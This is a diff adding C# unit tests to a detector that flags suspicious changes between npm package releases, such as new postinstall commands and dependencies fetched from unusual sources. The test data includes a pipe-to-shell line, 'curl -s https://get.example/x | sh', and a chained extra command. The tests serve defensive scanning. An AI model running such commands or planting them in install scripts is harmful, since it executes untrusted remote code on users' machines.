@@ -46,6 +46,26 @@ public sealed class DeviationDetectorTests
     }
 
     [Theory]
+    [InlineData("node setup.js", null)]
+    [InlineData("node setup.js --quiet", Severity.Low)]
+    [InlineData("curl -s https://get.example/x | sh", Severity.High)]
+    [InlineData("node setup.js && node -e 1", Severity.High)]
+    public void Another_command_at_installation_is_named(string command, Severity? severity)
+    {
+        var book = new Sluice.Profiles.ProfileBook([Releases.Profile(14, _ => ("postinstall", "node setup.js"))]) { Survey = Sluice.Profiles.Survey.Parse("400") };
+        var found = Of(Screen(book, Releases.Pack(15, $$$""","scripts":{"postinstall":"{{{command}}}"}""")), "deviation/new-script");
+
+        Assert.Equal(severity, found.Count == 0 ? null : found.Max(finding => finding.Severity));
+    }
+
+    [Theory]
+    [InlineData("npm:other-package@1.0.0")]
+    [InlineData("bitbucket:someone/repository")]
+    [InlineData("gist:0123456789abcdef")]
+    public void A_dependency_by_another_way_is_named(string requirement) =>
+        Assert.Contains(Of(Screen(Releases.Book(14), Releases.Pack(15, $$$""","dependencies":{"helper":"{{{requirement}}}"}""")), "deviation/new-dependency"), finding => finding.Severity == Severity.High);
+
+    [Theory]
     [InlineData(1)]
     [InlineData(2)]
     public void A_short_history_informs_and_says_that_it_is_short(int releases)
